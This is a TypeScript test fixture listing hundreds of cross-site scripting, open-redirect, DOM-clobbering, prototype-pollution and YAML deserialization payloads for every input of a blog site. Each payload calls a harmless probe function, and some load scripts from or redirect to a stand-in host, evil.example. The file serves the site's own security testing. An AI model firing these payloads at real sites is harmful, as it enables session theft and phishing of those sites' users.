/** Hostile texts for every input of the site, all our own. Each has a name. */

/** The input: a field of a stored post, or a way around storage. */
export type XssField =
  | 'body'
  | 'lines'
  | 'title'
  | 'author'
  | 'excerpt'
  | 'date'
  | 'slug'
  | 'fields'
  | 'url'
  | 'sign-in'
  | 'file name'
  | 'front matter';

export interface XssCase {
  /** 'body-17' */
  readonly name: string;
  /** The number that its probe reports. */
  readonly number: number;
  readonly field: XssField;
  readonly payload: string;
}

/**
 * The call by which a payload shows that it ran. In the texts below, `{p}` is a call with the
 * case's number, which works in all kinds of quotes, and `{n}` is the number.
 */
export const probeName = '__pwned';

/** The content of a Markdown post. */
const bodies = [
  // Handlers in raw HTML.
  '<img src=x onerror="{p}">',
  '<IMG SRC=x OnErRoR={p}>',
  '<img src=x onerror={p}//',
  '<img/src=x/onerror={p}>',
  '<img\nsrc=x\nonerror={p}>',
  '<img src="x` `<script>{p}</script>"` `onerror={p}>',
  '<img src=x onerror="&#95;_pwned({n})">',
  "<img src=x onerror=\"window['__pw'+'ned']({n})\">",
  '<img src=x onerror=__pwned`{n}`>',
  '<img srcset="x 1x" onerror="{p}">',
  '<picture><source srcset="x"><img onerror="{p}" src="y"></picture>',
  '<image src=x onerror="{p}">',
  '<video src=x onerror="{p}"></video>',
  '<video><source onerror="{p}" src=x></video>',
  '<audio src=x onerror="{p}"></audio>',
  '<body onload="{p}">',
  '<body onpageshow="{p}" onfocus="{p}">',
  '<details open ontoggle="{p}"><summary>s</summary>x</details>',
  // Elements and attributes that a body may have since raw HTML is allowed.
  '<kbd style="position:fixed;inset:0" onmouseover="{p}">k</kbd>',
  '<sub id="body" onclick="{p}">s</sub><sup id="footnote-label" accesskey="x" onclick="{p}">s</sup>',
  '<details name="a" open ontoggle="{p}"><summary id="root" tabindex=0 autofocus onfocus="{p}">s</summary>x</details>',
  '<table background="javascript:{p}" style="background:url(javascript:{p})"><caption onclick="{p}">c</caption><colgroup><col onload="{p}"></colgroup><tr><td headers="x" background="javascript:{p}">t</td></tr></table>',
  '<picture><source srcset="x 1x, javascript:{p} 2x" onerror="{p}"><img src="x" srcset="y 1x, javascript:{p} 2x" onerror="{p}" alt=""></picture>',
  '<img src="x" usemap="#m" onerror="{p}"><map name="m"><area href="javascript:{p}" shape="default"></map>',
  '<img src="x" longdesc="javascript:{p}" name="cookie" id="cookie" onerror="{p}">',
  '<blockquote cite="javascript:{p}" onclick="{p}">q</blockquote><q cite="javascript:{p}">q</q>',
  '<mark popover id="p" onbeforetoggle="{p}">m</mark><button popovertarget="p">b</button>',
  '<figure onmouseenter="{p}"><figcaption contenteditable onfocus="{p}">f</figcaption></figure>',
  '<a id="getElementById" name="getElementById" href="java&#10;script:{p}">a</a><a id="getElementById" name="forms">b</a>',
  '<a href="data:text/html,<script>{p}</script>" target="_top" ping="javascript:{p}">a</a>',
  '<ruby onclick="{p}">r<rt style="animation:x" onanimationstart="{p}">t</rt></ruby>',
  '<div data-notice><img src=x onerror="{p}"></div><div data-post-body><script>{p}</script></div>',
  '<p role="alertdialog" aria-labelledby="root" onclick="{p}">p</p>',
  '<details><summary>s</summary><svg><animate onbegin="{p}" attributeName=x dur=1s></svg></details>',
  '<del datetime="x" onclick="{p}"><time datetime="javascript:{p}" onclick="{p}">t</time></del>',
  '<input autofocus onfocus="{p}">',
  '<button autofocus onfocus="{p}">b</button>',
  '<select autofocus onfocus="{p}"><option>o</select>',
  '<textarea autofocus onfocus="{p}">t</textarea>',
  '<a href="#" tabindex=1 autofocus onfocus="{p}">a</a>',
  '<div tabindex=0 autofocus contenteditable onfocus="{p}">d</div>',
  '<marquee onstart="{p}">m</marquee>',
  '<p style="animation:page 1s" onanimationstart="{p}">p</p>',
  '<style>@keyframes leak{}</style><p style="animation-name:leak" onanimationstart="{p}">p</p>',
  '<div onpointerover="{p}" style="position:fixed;inset:0;z-index:9999">cover</div>',
  'Inline <b onmouseover="{p}" onclick="{p}">bold</b> text.',
  '<xss-element onfocus="{p}" tabindex=0 autofocus>x</xss-element>',
  // Scripts.
  '<script>{p}</script>',
  '<SCRIPT>{p}</SCRIPT>',
  '<script type="module">{p}</script>',
  '<script src="data:text/javascript,{p}"></script>',
  '<script src=//evil.example/x.js></script>',
  '<scr<script>ipt>{p}</scr</script>ipt>',
  '<script\u{0}>{p}</script>',
  '<script>{p}',
  '<!--><script>{p}</script>-->',
  '<!-- --!><img src=x onerror={p}> -->',
  '<![CDATA[><img src=x onerror={p}>]]>',
  '<?php ><img src=x onerror={p}> ?>',
  '<!DOCTYPE x [<!ENTITY e "{p}">]><img src=x onerror={p}>',
  '</div></article></main><img src=x onerror={p}>',
  '<noscript><p title="</noscript><img src=x onerror={p}>"></noscript>',
  '<title><img title="</title><img src=x onerror={p}>"></title>',
  '<textarea><img title="</textarea><img src=x onerror={p}>"></textarea>',
  '<xmp><img title="</xmp><img src=x onerror={p}>"></xmp>',
  '<template><img src=x onerror={p}></template><img src=x onerror={p}>',
  '<div><template shadowrootmode="open"><img src=x onerror={p}></template></div>',
  // Frames, plug-ins, forms, and what changes the document around them.
  '<iframe srcdoc="<script>parent.{p}</script>"></iframe>',
  '<iframe src="javascript:parent.{p}"></iframe>',
  '<iframe src="data:text/html,<script>top.{p}</script>"></iframe>',
  '<iframe src=//evil.example></iframe>',
  '<frameset onload="{p}"><frame src="javascript:{p}"></frameset>',
  '<object data="javascript:{p}"></object>',
  '<object data="data:text/html,<script>{p}</script>" type="text/html"></object>',
  '<embed src="javascript:{p}">',
  "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{p}'/>\">",
  '<form action="javascript:{p}"><button>Publish Post</button></form>',
  '<form id=main><input name=firstChild><input name=attributes></form>',
  '<button formaction="javascript:{p}">b</button>',
  '<input type=image formaction="javascript:{p}" src=x onerror={p}>',
  '<isindex action="javascript:{p}" type=image>',
  '<base href="//evil.example/">',
  '<base target="x"><a href="javascript:{p}">a</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:{p}">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<link rel=stylesheet href="data:text/css,body{display:none}">',
  '<link rel=modulepreload href=//evil.example/x.js>',
  '<style>body{display:none}</style>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style><!--</style><img src=x onerror={p}>--></style>',
  '<p style="background:url(//evil.example/x)">p</p>',
  '<dialog open onclose="{p}"><form method=dialog><button>x</button></form></dialog>',
  '<portal src="javascript:{p}"></portal>',
  // SVG and MathML, and markup that changes its meaning between two parsers.
  '<svg onload="{p}">',
  '<svg/onload={p}>',
  '<svg><script>{p}</script></svg>',
  '<svg><script href="data:text/javascript,{p}"/></svg>',
  '<svg><a xlink:href="javascript:{p}"><text y=9>t</text></a></svg>',
  '<svg><animate onbegin="{p}" attributeName=x dur=1s>',
  '<svg><a><set attributeName="href" to="javascript:{p}"/><text y=9>t</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload={p}>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.{p}</script>"></iframe></foreignObject></svg>',
  '<svg><style><img title="</style><img src=x onerror={p}>"></style></svg>',
  '<svg></p><style><a id="</style><img src=x onerror={p}>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={p}&gt;">',
  '<math href="javascript:{p}">m</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror={p}></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={p}>',
  '<table><td><svg><desc><td><img src=x onerror={p}></desc></svg></table>',
  // URLs of links.
  '[a](javascript:{p})',
  '[a](JaVaScRiPt:{p})',
  '[a](<javascript:{p}>)',
  '[a](<java\tscript:{p}>)',
  '[a](java&#x0A;script:{p})',
  '[a](java&Tab;script:{p})',
  '[a](&#106;avascript:{p})',
  '[a](javascript&colon;{p})',
  '[a](\\javascript:{p})',
  '[a](&#1;javascript:{p})',
  '[a](<\u{a0}javascript:{p}>)',
  '[a](<\u{feff}javascript:{p}>)',
  '[a](\u{17f}cript:{p}) [b](java\u{17f}cript:{p})',
  '[a](javascript://%0a{p})',
  '[a](javascript:/*x*/{p}//https://example.com)',
  '[a](vbscript:{p})',
  '[a](data:text/html,<script>{p}</script>)',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](DATA:text/html,x)',
  '[a](blob:https://branchbook.example/x)',
  '[a](file:///etc/passwd)',
  '[a](view-source:javascript:{p})',
  '[a](feed:javascript:{p})',
  '[a](jar:javascript:{p}!/)',
  '[a](filesystem:https://x/temporary/y)',
  '[a](intent://x#Intent;scheme=javascript;end)',
  '[a][r]\n\n[r]: javascript:{p}',
  '[javascript:{p}]\n\n[javascript:{p}]: javascript:{p} "t"',
  '[__proto__]\n\n[__proto__]: javascript:{p}',
  '<javascript:{p}>',
  '<data:text/html,{n}>',
  '![i](javascript:{p})',
  '![i](data:image/svg+xml,<svg/onload={p}>)',
  '![i](data:text/html,x)',
  '[![i](javascript:{p})](javascript:{p})',
  'A note[^1].\n\n[^1]: [a](javascript:{p}) <img src=x onerror={p}>',
  // Escapes from an attribute through Markdown syntax.
  '[a](https://example.com/"onmouseover="{p})',
  '[a](https://example.com "t\\" onmouseover=\\"{p}")',
  '[a](https://example.com \'t" autofocus onfocus="{p}\')',
  '[a](https://example.com/`onfocus={p}`)',
  '[a"><img src=x onerror={p}>](https://example.com)',
  '![" onerror="{p}](/icon.svg)',
  '![i](/icon.svg"onerror="{p})',
  '![i](/icon.svg \'" onload="{p}\')',
  'https://example.com/"onmouseover="{p}',
  'www.example.com/<img src=x onerror={p}>',
  '```"><img src=x onerror={p}>\ncode\n```',
  '```js" onclick="{p}\ncode\n```',
  '```&#x0C;admin&Tab;fixed\ncode\n```',
  '```\n<img src=x onerror={p}>\n```',
  '`<img src=x onerror={p}>`',
  '    <img src=x onerror={p}>',
  '```html\n</code></pre><img src=x onerror={p}>\n```',
  '```diff\n+<img src=x onerror={p}>\n-</span><script>{p}</script>\n```',
  '| <img src=x onerror={p}> | " onfocus="{p} |\n|---|:-:|\n| <script>{p}</script> | `a|b` |',
  '- [x] <img src=x onerror={p}>\n- [ ] " onclick="{p}',
  '# <img src=x onerror={p}>\n\n# " onfocus="{p}',
  '~~<img src=x onerror={p}>~~ **<svg/onload={p}>**',
  '&lt;img src=x onerror={p}&gt; &#60;script&#62;{p}&#60;/script&#62;',
  '\\<img src=x onerror={p}\\>',
  '> <img src=x onerror={p}>\n\n1. <script>{p}</script>',
  '<div>\n\n[a](javascript:{p})\n\n</div>',
  '<a href="javascript:{p}">a</a>',
  '<a href=" &#14; javascript:{p}">a</a>',
  '<a href="//evil.example" target=_blank ping="//evil.example/ping">a</a>',
  // Names and ids that the page uses.
  '<a name=location></a><a id=__pwned></a><a id=main></a>',
  '<img name=getElementById><img name=body><img name=cookie>',
  '# main\n\n# __proto__\n\n# constructor\n\n# location',
  'A[^main] B[^__proto__] C[^"><img src=x onerror={p}>].\n\n[^main]: x\n[^__proto__]: y\n[^"><img src=x onerror={p}>]: z',
  '<div data-copy><button data-heading-anchor href="javascript:{p}">b</button></div>',
  '<div id="user-content-fn-1" data-post-body><article role=main>x</article></div>',
];

/** The content of a post without Markdown. */
const lines = [
  '<img src=x onerror={p}>',
  '<script>{p}</script>\n<svg/onload={p}>',
  '[a](javascript:{p})\r\n<iframe srcdoc="<script>parent.{p}</script>"></iframe>',
  '</p></div><base href=//evil.example><form id=main>',
  '&lt;img src=x onerror={p}&gt;',
  '{{constructor.constructor("{p}")()}} ${ {p} } <%= {p} %>',
];

/** Short texts: titles, names, excerpts, dates. */
const texts = [
  '<img src=x onerror={p}>',
  '"><script>{p}</script>',
  "' onfocus={p} autofocus x='",
  '</title><script>{p}</script>',
  '</textarea><svg/onload={p}>',
  '&lt;img src=x onerror={p}&gt;',
  '[a](javascript:{p})',
  'javascript:{p}',
];

const slugs = [
  '<img src=x onerror={p}>',
  '"><script>{p}</script>',
  'javascript:{p}',
  '../../javascript:{p}',
  '//evil.example/{n}',
  '\\\\evil.example\\{n}',
  '/%2f/evil.example/{n}',
  '%00<script>{p}</script>',
  '?redirect_url=javascript:{p}',
  '#"><img src=x onerror={p}>',
  '..',
  '.',
  '__proto__',
  'constructor',
];

/**
 * Whole entries as JSON: fields of unexpected types that a renderer could take for elements or
 * code.
 */
const fields = [
  '{"title":{"$$typeof":"Symbol(react.transitional.element)","type":"img","props":{"src":"x","onError":"{p}"}}}',
  '{"title":["<img src=x onerror={p}>"]}',
  '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror={p}>"}}}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror={p}>"}}',
  '{"constructor":{"prototype":{"innerHTML":"<img src=x onerror={p}>"}}}',
  '{"id":"<img src=x onerror={p}>"}',
  '{"isMarkdown":"<script>{p}</script>"}',
  '{"href":"javascript:{p}","to":"javascript:{p}","style":"background:url(//evil.example)"}',
];

/** URLs, as typed into the address bar. */
const urls = [
  '/blog/<img src=x onerror={p}>',
  '/blog/%3Cimg%20src=x%20onerror={p}%3E',
  '/blog/"><script>{p}</script>',
  "/blog/'-{p}-'",
  '/blog/javascript:{p}',
  '/blog/%22%3E%3Csvg%2Fonload={p}%3E',
  '/blog/__proto__',
  '/blog?q=<img src=x onerror={p}>',
  '/blog?q="><script>{p}</script>',
  "/blog?q=' autofocus onfocus={p} x='",
  '/blog?q=javascript:{p}',
  '/blog?q=</textarea><svg/onload={p}>',
  '/blog?__proto__[innerHTML]=<img src=x onerror={p}>',
  '/blog#<img src=x onerror={p}>',
  '/blog/managing-business-finances#"><img src=x onerror={p}>',
  '/blog/managing-business-finances#javascript:{p}',
  '/#<img src=x onerror={p}>',
  '/#features"],img[src=x onerror={p}]',
  '/?<script>{p}</script>',
  '/nope/<img src=x onerror={p}>',
  '/nope?redirect_url=javascript:{p}',
  '//evil.example/{n}',
  '/\\evil.example/{n}',
  '/blog/..%2f..%2f<script>{p}</script>',
  '/admin/edit/<img src=x onerror={p}>',
  '/admin/edit/1?id="><script>{p}</script>',
];

/** Values of `redirect_url` for sign-in. */
const returns = [
  'javascript:{p}',
  'JAVASCRIPT:{p}',
  ' javascript:{p}',
  '\tjava\nscript:{p}',
  'data:text/html,<script>{p}</script>',
  'vbscript:{p}',
  '//evil.example/{n}',
  '/\\evil.example/{n}',
  '/\t/evil.example/{n}',
  'https://evil.example/{n}',
  'https:evil.example/{n}',
  'http://localhost@evil.example/{n}',
  '/admin/../..//evil.example/{n}',
  '/admin?x="><script>{p}</script>',
  '/admin#<img src=x onerror={p}>',
  '"><img src=x onerror={p}>',
];

const fileNames = [
  '<img src=x onerror={p}>.md',
  '"><script>{p}</script>.md',
  "' onfocus={p} autofocus x='.md",
  'javascript:{p}.md',
  '../../<svg onload={p}>.md',
  '\u{202e}dm.<img src=x onerror={p}>.md',
  '&lt;img src=x onerror={p}&gt;.md',
  '</output><iframe srcdoc="<script>parent.{p}</script>">.md',
  '<img src=x onerror={p}>.html',
];

const frontMatters = [
  '---\ntitle: <img src=x onerror={p}>\n---\n\nText.',
  '---\ntitle: "\\"><script>{p}</script>"\nauthor: <svg/onload={p}>\n---\n\nText.',
  '---\nslug: javascript:{p}\nredirect: //evil.example\n---\n\nText.',
  '---\n__proto__:\n  innerHTML: <img src=x onerror={p}>\nconstructor: {p}\n---\n\nText.',
  '---\ntitle: !!js/function "function(){ {p} }()"\n---\n\nText.',
  '---\ntitle: !!js/undefined ""\ndate: !!python/object/apply:os.system ["{n}"]\n---\n\nText.',
  '---\na: &a ["<img src=x onerror={p}>"]\nb: *a\n---\n\nText.',
  '---js\n{ title: {p} }\n---\n\nText.',
  '---json\n{ "title": "<img src=x onerror={p}>" }\n---\n\nText.',
  '+++\ntitle = "<img src=x onerror={p}>"\n+++\n\nText.',
  '---\ntitle: x\n---\n<script>{p}</script>\n\n[a](javascript:{p})',
  '---\n<img src=x onerror={p}>\n',
];

/** All cases. */
export const xssCases: readonly XssCase[] = number([
  ...casesOf('body', bodies),
  ...casesOf('lines', lines),
  ...casesOf('title', texts),
  ...casesOf('author', texts),
  ...casesOf('excerpt', texts),
  ...casesOf('date', texts),
  ...casesOf('slug', slugs),
  ...casesOf('fields', fields),
  ...casesOf('url', urls),
  ...casesOf('sign-in', returns),
  ...casesOf('file name', fileNames),
  ...casesOf('front matter', frontMatters),
]);

const publishedFields: readonly XssField[] = ['body', 'lines', 'title', 'author', 'excerpt', 'date', 'slug'];

/** The cases that can be published on a server, in fields that a post has there. */
export const publishableCases = xssCases.filter(({ field }) => publishedFields.includes(field));

function casesOf(field: XssField, payloads: readonly string[]): Omit<XssCase, 'number'>[] {
  return payloads.map((payload, index) => ({
    name: `${field.replaceAll(' ', '-')}-${index + 1}`,
    field,
    payload,
  }));
}

function number(cases: readonly Omit<XssCase, 'number'>[]): XssCase[] {
  return cases.map(({ name, field, payload }, index) => {
    const text = payload.replaceAll('{p}', `${probeName}({n})`).replaceAll('{n}', String(index + 1));
    return { name, field, payload: text, number: index + 1 };
  });
}
